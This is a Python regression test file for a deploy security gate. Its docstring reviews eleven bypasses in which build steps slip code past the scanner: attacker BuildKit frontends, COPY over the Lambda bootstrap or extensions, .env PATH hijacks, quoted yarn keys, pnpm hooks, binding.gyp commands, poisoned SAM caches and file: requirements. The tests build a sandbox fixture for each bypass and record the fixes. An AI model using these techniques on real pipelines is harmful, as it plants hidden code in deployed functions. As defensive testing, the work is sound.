r"""A thirty-fifth hostile review of `gate check`, on how a deploy's build steps put code into
a function that the gate does not read: the Dockerfile reader
(gate.bundle.discovery.dockerfile), the Serverless reader and serverless-python-requirements
(gate.bundle.discovery.serverless), what a Node.js install reads
(gate.bundle.discovery.npm `install_programs`), SAM's samconfig and build folder, and pip
requirements (gate.bundle.manifests.requirements).

Each attack is a confirmed problem: the tricked bundle exits 0 with the hostile harness's
policy (checkov off), and a baseline shows the same bundle without the trick blocks:
bandit's B605 on the code the trick deploys, put where the gate reads it, or for 2 the
same startup program named in the template's environment (GATE-IAC-018). What the tools
do was checked offline where a client could be had: yarn 1.22.22 and pnpm 10.34.9 (from
npm's registry) and npm 11.19 each ran the bundle's script (a marker file written);
BuildKit, the Serverless Framework 3.40 and serverless-python-requirements 6.1.2 by
reading their source. What lets each through:

1. The build frontend, chosen where the gate does not look. `_instructions` reads parser
   directives only while the first lines match `#\s*([A-Za-z]+)\s*=\s*(\S+)\s*$`; BuildKit's
   `DetectSyntax` (frontend/dockerfile/parser/directives.go) first drops a `#!` line
   (`discardShebang`) and takes a value up to the end of the line, using its first word.
   (a) `#!/usr/bin/env -S docker build -f` then `# syntax=docker.io/attacker/frontend:1`,
   and (b) `# syntax=docker.io/attacker/frontend:1 --verbose`, are a comment to the gate
   and the attacker's frontend to BuildKit, which builds the image as it likes. (c) The
   build argument `BUILDKIT_SYNTAX` overrides the directive (`keySyntaxArg`, checked
   before the file is read): `provider.ecr.images.<name>.buildArgs`, which the Framework
   passes to `docker build` as `--build-arg`, is not read by `_image`
   (gate.bundle.discovery.serverless).
2. A plain `COPY` into a place the runtime runs. `_plain_copy` accepts a copy that keeps
   the file's name wherever it goes: `COPY wrap.sh /opt/extensions/` makes wrap.sh an
   extension the runtime starts before the handler (the startup rule judges a layer's
   `extensions/`, never an image's), and `COPY bootstrap /var/runtime/` replaces the
   bootstrap the base image's `/lambda-entrypoint.sh` executes. Both run boot.txt (Python
   read as text) with the function's role.
3. serverless-python-requirements' `dockerRunCmdExtraArgs`. `build_programs` reads
   `dockerImage`, `dockerFile`, `pipCmdExtraArgs` and `cacheLocation`, not the arguments
   the plugin appends to `docker run` (lib/pip.js: `dockerCmd.push(...options
   .dockerRunCmdExtraArgs)`): `-v ${env:PWD}/../wheels:/wheels -e PIP_FIND_LINKS=/wheels
   -e PIP_NO_INDEX=1` (the Framework resolves `${env:PWD}`) installs six from the
   bundle's wheel, a file counted not analysed. (Review 28 judged these sound, taking the
   container's mounts to be the plugin's alone.)
4. The Framework's `.env`, past the variables the gate names. `_BUILD_ENVIRONMENT` matches
   `PIP_`, `NPM_CONFIG_`, `NODE_OPTIONS`, `PYTHON`, `UV_`, `LD_PRELOAD`; with `useDotenv`
   the Framework loads svc/.env (dotenv-expand'ed) into the environment the plugin spawns
   pip in. (a) `PATH=${PWD}/../tools:${PATH}` makes the plugin's `python3.12 -m pip`
   (its default `pythonBin`, looked up on PATH) the bundle's tools/python3.12, a shell
   script that puts tools/six.txt in the package as six.py; (b)
   `XDG_CONFIG_HOME=${PWD}/../config` makes pip read config/pip/pip.conf, whose
   `find-links`/`no-index` install the bundle's wheel.
5. Quoted keys in yarn's settings. `_RUNNING_SETTINGS` matches `^\s*(yarn-path|...)\b` in
   `.yarnrc` and `^\s*(yarnPath|...)\s*:` in `.yarnrc.yml`; yarn reads `"yarn-path"
   "./tools/boot.js"` (its lockfile syntax) and `"yarnPath": ./tools/boot.cjs` (YAML) as
   the same keys, and runs that file for every `yarn` command (seen with yarn 1.22.22,
   which honours both files).
6. pnpm's settings in pnpm-workspace.yaml. pnpm 10 reads its settings there;
   `pnpmfile: tools/hooks.cjs` makes every install load that file as its hooks (seen
   with pnpm 10.34.9). `_HOOK_FILES` knows only `.pnpmfile.cjs`/`.mjs` by name and
   `_workspace_programs` reads the file's list items only.
7. npm's default install script. A package with a `binding.gyp` and no `install` or
   `preinstall` script is installed with `node-gyp rebuild`, the root package included
   (seen with npm 11.19: `> node-gyp rebuild`), and gyp runs the commands a `<!(...)`
   names (tools/boot.js wrote the marker). `_package_programs` reads only `scripts`.
8. A plugin the bundle ships in node_modules. The Framework `require`s each plugin of
   `plugins:` from the service's node_modules; a pipeline that runs `serverless package`
   without a fresh `npm ci` (a global Framework, `npm install` over a committed tree)
   runs node_modules/serverless-python-requirements/index.js of the bundle, which the
   gate ignores (rule `dependency-tree`) and `build_programs` takes for the registry's
   package.
9. SAM's build container from samconfig. `samconfig_references` reads `template_file` and
   `manifest`; `use_container = true` with `build_image = ["ghcr.io/attacker/..."]`
   makes `sam build` run pip in the attacker's image, which can write anything into the
   artifact. serverless-python-requirements' non-AWS `dockerImage` is a scan error for
   the same reason.
10. SAM's build cache. With `cached = true` (samconfig) `sam build` reads
    `.aws-sam/build.toml` and, where a definition's `source_hash` equals the `dir_checksum`
    of its CodeUri, copies `.aws-sam/cache/<uuid>/` into the build instead of building
    (samcli.lib.build.build_strategy `CachedBuildStrategy`): both files are the bundle's,
    the hash is the attacker's to compute, and `.aws-sam` is ignored (rule `build-output`)
    but for `.aws-sam/build/template.yaml`. The cached app.py is the function deployed.
11. A PEP 508 direct reference to a wheel of the bundle. `classify_requirement` refuses
    `./wheels/six-...whl` and `local_source` `--find-links ${PWD}/wheels`, but `six @
    file://${PWD}/wheels/six-1.16.0-py3-none-any.whl` (pip expands `${PWD}`: the
    checkout) is only a "URL requirement", GATE-DEP-001 at medium, which does not block.

Suggested fixes, by class. 1: detect the frontend as BuildKit does (drop a BOM and a `#!`
line, a directive's value is the rest of the line, and `//` and JSON forms), and read
a Serverless image's `buildArgs` (and SAM's `DockerBuildArgs`): any `BUILDKIT_*` argument
is a step the gate cannot follow. 2: judge a `COPY` by its destination too: only the
function's code folder (`${LAMBDA_TASK_ROOT}` and below) is plain; a copy anywhere else
(`/opt/extensions`, `/var/runtime`, `/var/lang`, `/opt`, `/usr`, `/etc`) is a step the gate
cannot follow, or, for `/opt/extensions/`, fed to the startup rule as a layer's
extensions. 3: allow-list serverless-python-requirements' settings as `.npmrc` is:
`dockerRunCmdExtraArgs`, `dockerEnv`, `dockerBuildCmdExtraArgs`, `dockerExtraFiles`,
`dockerSsh` and any other key not known to be harmless are parts the gate cannot follow.
4: read `.env` against an allow-list of variables, not a deny-list (at least `PATH`,
`HOME`, `XDG_*`, `VIRTUAL_ENV`, `CONDA_*`, `BASH_ENV`, `ENV`, `DOCKER_*`, `SLS_*`
besides today's). 5: parse `.yarnrc` (yarn's lockfile syntax) and `.yarnrc.yml` (YAML)
and judge their keys, not lines; better, an allow-list as for `.npmrc`. 6: read
pnpm-workspace.yaml as YAML: `packages` are members, any other setting not known to be
harmless (`pnpmfile`, `overrides`, `packageExtensions`, `configDependencies`,
`scriptShell`, `nodeOptions`...) a part the gate cannot follow. 7: a `binding.gyp` beside
any package.json npm installs (root, workspace member, local package) is an install
script. 8: a `node_modules` (or a yarn `.pnp.cjs`, `.yarn/cache`, `.yarn/unplugged`)
beside a service or above it that holds a plugin the service names is a part the gate
cannot follow, or refused as a shipped dependency tree. 9: read samconfig's build
settings of every environment: `use_container` with a `build_image` that is not AWS's
(`public.ecr.aws/sam/build-`), `container_env_var`/`container_env_var_file`,
`docker_network`, `mount_with`, are parts the gate cannot follow. 10: `cached` (or a
`.aws-sam/build.toml` and `.aws-sam/cache`, `.aws-sam/deps` in the bundle) makes each
function's code the cache folder's: read it as the function's code, or refuse a
committed `.aws-sam` other than `build/`. 11: a requirement whose URL is `file:` (or
holds a variable) is a local source: refused as `./x.whl` is; the same for Poetry and
Pipenv `path`/`file` entries naming an archive.

Also tried, and the gate held: samconfig `template_file` naming a template in
node_modules (refused: a folder the gate ignores); a handler `node_modules/app.handler`
in the function's code (brought back and scanned: blocks); `PYTHONPATH: /var/task/cdk.out`
with the handler importing cdk.out/helper.py (brought back: blocks); the SAM cache of 10
holding a sitecustomize.py (brought back from any folder: blocks, hence the case plants
the cached app.py).

Not covered: `ENV PATH=/var/task/bin:...` in a Dockerfile (exits 0, but whether the
Python base image's bootstrap looks anything up on PATH was not established offline);
SAM `Metadata.DockerBuildArgs: {BUILDKIT_SYNTAX: ...}` (SAM builds through docker-py,
whose builder was not established); Serverless `cacheFrom` (a registry cache can map a
`COPY`'s cache key to any layer; not reproducible offline); yarn berry's `.pnp.cjs`,
`.yarn/cache` and `.yarn/unplugged` committed for zero installs (the class of 8, not
run); Poetry and Pipenv `path`/`file` entries with serverless-python-requirements
(`poetry export` writes them as `name @ file://...`: the class of 11, not run);
samconfig `container_env_var`; the yarn and pnpm hooks in a workspace member's folder.

Fixed, each by its class. 1, the Dockerfile reader (gate.bundle.discovery.dockerfile)
takes a directive's value to the end of its line, looks for `syntax` after a `#!` line
and a byte-order mark too, and `build_settings` reads an image's build settings: a
`BUILDKIT_*` build argument (Serverless `buildArgs`, SAM `DockerBuildArgs`) or any setting
but those naming the files, tag, stage and platform (`buildOptions`, `cacheFrom`) is a
part the gate cannot follow. 2, a `COPY` is plain only into the function's code folder,
resolved from the stage's `WORKDIR` (an earlier stage's too); `ENV` is read by its keys,
and `PATH`, `HOME`, `LAMBDA_*`, `LD_*` and Python's variables (but those that only set an
option) or a key built from a variable are steps the gate cannot follow. 3,
serverless-python-requirements' settings are read against the list of those the gate
reads or knows to change nothing installed. 4, a `.env` variable of a build program's
namespace (pip, uv, Poetry, npm, yarn, pnpm, Node, Docker, git, the Framework, proxies,
certificates, `XDG_*`) or the shell's (`PATH`, `HOME`...) is a part the gate cannot
follow. 5 and 6, `.yarnrc` is read as yarn's parser reads keys, `.yarnrc.yml` and
pnpm-workspace.yaml as YAML, each against an allow-list (gate.bundle.discovery.npm). 7, a
`binding.gyp` beside a package.json the install installs is an install script. 8, a
plugin the service names, in a `node_modules` from its folder up, is a part the gate
cannot follow unless git says it does not track it (the pipeline's own install). 9,
samconfig's build settings (`build_image` not AWS's, `container_env_var*`, `mount_with
WRITE`, `hook_name`) are parts of every SAM function the gate cannot follow. 10, SAM's
`.aws-sam/cache` and `.aws-sam/deps` are scanned, as `.aws-sam/build` is. 11, a
requirement installing an archive or a repository of the disk is refused however it is
written (`name @ file:`, `git+file:`, a Poetry or Pipenv `path`, `file`, `git` table).
"""

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from tests.hostile.conftest import (
    Sandbox,
    each_blocked_or_refused,
    each_blocks,
)
from tests.hostile.test_review26 import PLANTED, sam_function, service, wheel
from tests.hostile.test_review27 import CMD, FROM
from tests.hostile.test_review28 import SERVICE_IMAGE, WRITE_SITECUSTOMIZE, ecr_image, sam_zip
from tests.hostile.test_review31 import (
    HANDLER_PLANTED,
    planted,
    wrapped,
    wrapper_in_template,
)
from tests.hostile.test_review33 import DOTENV_SERVICE, requirements_service

Layout = Callable[[Sandbox], None]
FRONTEND = "docker.io/attacker/frontend:1"

# --- 1. the build frontend, chosen where the gate does not look ----------------------------------


def shebang_syntax(sandbox: Sandbox) -> None:
    ecr_image(sandbox)
    sandbox.write(
        "Dockerfile", f"#!/usr/bin/env -S docker build -f\n# syntax={FRONTEND}\n{FROM}{CMD}"
    )


def syntax_with_arguments(sandbox: Sandbox) -> None:
    ecr_image(sandbox)
    sandbox.write("Dockerfile", f"# syntax={FRONTEND} --verbose\n{FROM}{CMD}")


def syntax_build_arg(sandbox: Sandbox) -> None:
    ecr_image(sandbox)
    sandbox.write(
        "serverless.yml",
        SERVICE_IMAGE.replace(
            "        path: ./\n",
            f"        path: ./\n        buildArgs:\n          BUILDKIT_SYNTAX: {FRONTEND}\n",
        ),
    )


# --- 2. a plain COPY into a place the runtime runs -----------------------------------------------


def image_extension(sandbox: Sandbox) -> None:
    wrapped(sandbox, FROM + "COPY wrap.sh /opt/extensions/\n" + CMD)


def image_bootstrap(sandbox: Sandbox) -> None:
    wrapped(sandbox, FROM + "COPY bootstrap /var/runtime/\n" + CMD)
    bootstrap = (
        "#!/bin/sh\npython3 /var/task/boot.txt\n"
        "exec /var/lang/bin/python3 /var/runtime/bootstrap.py\n"
    )
    os.chmod(sandbox.write("src/bootstrap", bootstrap), 0o755)


# --- 3. and 4. what the requirements plugin's pip runs with --------------------------------------


def docker_run_arguments(sandbox: Sandbox) -> None:
    """The plugin's docker run mounts the bundle's wheels and points pip at them."""
    requirements_service(sandbox)
    sandbox.write(
        "svc/serverless.yml",
        DOTENV_SERVICE.replace("useDotenv: true\n", "").replace(
            "    dockerizePip: false\n",
            "    dockerizePip: true\n    dockerRunCmdExtraArgs: "
            "[-v, '${env:PWD}/../wheels:/wheels', "
            "-e, PIP_FIND_LINKS=/wheels, -e, PIP_NO_INDEX=1]\n",
        ),
    )


PIP_STAND_IN = (
    "#!/bin/sh\n# python3.12 -m pip install -t TARGET ...: six.txt goes in as six.py\n"
    'while [ $# -gt 1 ] && [ "$1" != "-t" ]; do shift; done\n'
    '[ "$1" = "-t" ] && cp "$(dirname "$0")/six.txt" "$2/six.py"\n'
)


def dotenv_path(sandbox: Sandbox) -> None:
    requirements_service(sandbox)
    sandbox.write("svc/.env", "PATH=${PWD}/../tools:${PATH}\n")
    os.chmod(sandbox.write("tools/python3.12", PIP_STAND_IN), 0o755)
    sandbox.write("tools/six.txt", PLANTED)


def dotenv_config_home(sandbox: Sandbox) -> None:
    requirements_service(sandbox)
    sandbox.write("svc/.env", "XDG_CONFIG_HOME=${PWD}/../config\n")
    sandbox.write("config/pip/pip.conf", "[global]\nno-index = true\nfind-links = ../wheels\n")


# --- 5. to 8. what a Node.js install runs --------------------------------------------------------


def node_service(sandbox: Sandbox) -> None:
    """A service at the root whose Framework a package.json installs."""
    service(sandbox)
    sandbox.write(
        "package.json",
        '{"name": "orders", "private": true, "devDependencies": {"serverless": "^3.38.0"}}\n',
    )


def yarnrc_quoted(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(".yarnrc", '"yarn-path" "./tools/boot.js"\n')
    sandbox.write("tools/boot.js", WRITE_SITECUSTOMIZE)


def yarnrc_yml_quoted(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(".yarnrc.yml", '"yarnPath": ./tools/boot.cjs\n')
    sandbox.write("tools/boot.cjs", WRITE_SITECUSTOMIZE)


def pnpm_workspace_pnpmfile(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write("pnpm-workspace.yaml", "pnpmfile: tools/hooks.cjs\n")
    sandbox.write("tools/hooks.cjs", WRITE_SITECUSTOMIZE + "module.exports = {hooks: {}};\n")


def binding_gyp(sandbox: Sandbox) -> None:
    node_service(sandbox)
    sandbox.write(
        "binding.gyp",
        "{'targets': [{'target_name': 'x', 'sources': ['<!(node tools/boot.js)']}]}\n",
    )
    sandbox.write("tools/boot.js", WRITE_SITECUSTOMIZE + "console.log('x.c');\n")


def shipped_plugin(sandbox: Sandbox) -> None:
    service(sandbox, "plugins:\n  - serverless-python-requirements\n")
    plugin = "node_modules/serverless-python-requirements"
    sandbox.write(
        f"{plugin}/package.json",
        '{"name": "serverless-python-requirements", "version": "6.1.2", "main": "index.js"}\n',
    )
    sandbox.write(
        f"{plugin}/index.js",
        f"module.exports = class {{ constructor() {{ {WRITE_SITECUSTOMIZE} }} }};\n",
    )


# --- 9. and 10. SAM's build container and build cache --------------------------------------------


def sam_build_image(sandbox: Sandbox) -> None:
    sam_zip(sandbox)
    sandbox.write(
        "samconfig.toml",
        "version = 0.1\n\n[default.build.parameters]\nuse_container = true\n"
        'build_image = ["ghcr.io/attacker/build-python:3.12"]\n',
    )


CACHE_ID = "b2c1a8e4-0f5e-4d52-9c83-2f7a6f1b9d10"
BUILD_TOML = f"""\
# This file is auto generated by SAM CLI build command

[function_build_definitions.{CACHE_ID}]
codeuri = "src"
runtime = "python3.12"
architecture = "x86_64"
handler = "app.handler"
source_hash = "{"0" * 64}"
manifest_hash = ""
packagetype = "Zip"
functions = ["Fn"]

[layer_build_definitions]
"""
"""SAM's build graph; the attacker writes src/'s real `dir_checksum` as `source_hash`."""


def sam_cached(sandbox: Sandbox) -> None:
    sam_zip(sandbox)
    sandbox.write("samconfig.toml", "version = 0.1\n\n[default.build.parameters]\ncached = true\n")
    sandbox.write(".aws-sam/build.toml", BUILD_TOML)
    sandbox.write(f".aws-sam/cache/{CACHE_ID}/app.py", HANDLER_PLANTED)


# --- 11. a PEP 508 direct reference to a wheel of the bundle -------------------------------------


def pinned_six(sandbox: Sandbox) -> None:
    sam_function(sandbox, "six==1.16.0\n")


def file_url_requirement(sandbox: Sandbox) -> None:
    sam_function(sandbox, "six @ file://${PWD}/wheels/six-1.16.0-py3-none-any.whl\n")
    sandbox.write("wheels/six-1.16.0-py3-none-any.whl", wheel())


# The bundles without the tricks, each with the code a trick deploys where the gate reads
# it: (layout, the rule that blocks it).
BASELINES: dict[str, tuple[Layout, str]] = {
    "image": (planted(ecr_image, "sitecustomize.py"), "B605"),
    "startup": (wrapper_in_template, "GATE-IAC-018"),
    "requirements": (planted(requirements_service, "svc/six.py"), "B605"),
    "node": (planted(node_service, "sitecustomize.py"), "B605"),
    "sam": (planted(sam_zip, "src/app.py", HANDLER_PLANTED), "B605"),
    "wheel": (planted(pinned_six, "src/six.py"), "B605"),
}
# name: (its baseline, the tricked bundle, what lets it through)
TRICKS: dict[str, tuple[str, Layout, str]] = {
    "1a-shebang-then-syntax": (
        "image", shebang_syntax, "dockerfile._instructions stops at a #! line BuildKit drops"),
    "1b-syntax-with-arguments": (
        "image", syntax_with_arguments, "_DIRECTIVE takes a value without spaces only"),
    "1c-buildkit-syntax-build-arg": (
        "image", syntax_build_arg, "serverless._image does not read buildArgs"),
    "2a-copy-to-extensions": (
        "startup", image_extension, "_plain_copy accepts any destination"),
    "2b-copy-over-bootstrap": (
        "startup", image_bootstrap, "_plain_copy accepts any destination"),
    "3-docker-run-arguments": (
        "requirements", docker_run_arguments, "build_programs ignores dockerRunCmdExtraArgs"),
    "4a-dotenv-path": (
        "requirements", dotenv_path, "_BUILD_ENVIRONMENT does not name PATH"),
    "4b-dotenv-config-home": (
        "requirements", dotenv_config_home, "_BUILD_ENVIRONMENT does not name XDG_CONFIG_HOME"),
    "5a-yarnrc-quoted-key": (
        "node", yarnrc_quoted, "_RUNNING_SETTINGS matches unquoted keys only"),
    "5b-yarnrc-yml-quoted-key": (
        "node", yarnrc_yml_quoted, "_RUNNING_SETTINGS matches unquoted keys only"),
    "6-pnpm-workspace-pnpmfile": (
        "node", pnpm_workspace_pnpmfile, "pnpm-workspace.yaml settings are not read"),
    "7-binding-gyp": (
        "node", binding_gyp, "npm's default node-gyp install is not an install script"),
    "8-plugin-in-node-modules": (
        "node", shipped_plugin, "node_modules is ignored, its plugin taken for npm's"),
    "9-sam-build-image": (
        "sam", sam_build_image, "samconfig build_image/use_container are not read"),
    "10-sam-build-cache": (
        "sam", sam_cached, ".aws-sam/cache and samconfig cached are not read"),
    "11-file-url-requirement": (
        "wheel", file_url_requirement, "a file: URL requirement is GATE-DEP-001, medium"),
}  # fmt: skip


def test_the_code_each_trick_deploys_blocks(tmp_path: Path) -> None:
    """The baselines, in one run of every bundle: the same bundle without the trick, the
    code it would deploy where the gate reads it, blocks."""
    each_blocks(tmp_path, BASELINES)


def test_code_the_deploy_runs_or_puts_in_is_scanned_or_refused(tmp_path: Path) -> None:
    """The deploy runs, or puts into a Python function, code the gate never read: the run
    must not pass."""

    each_blocked_or_refused(tmp_path, {trick: case[1] for trick, case in sorted(TRICKS.items())})
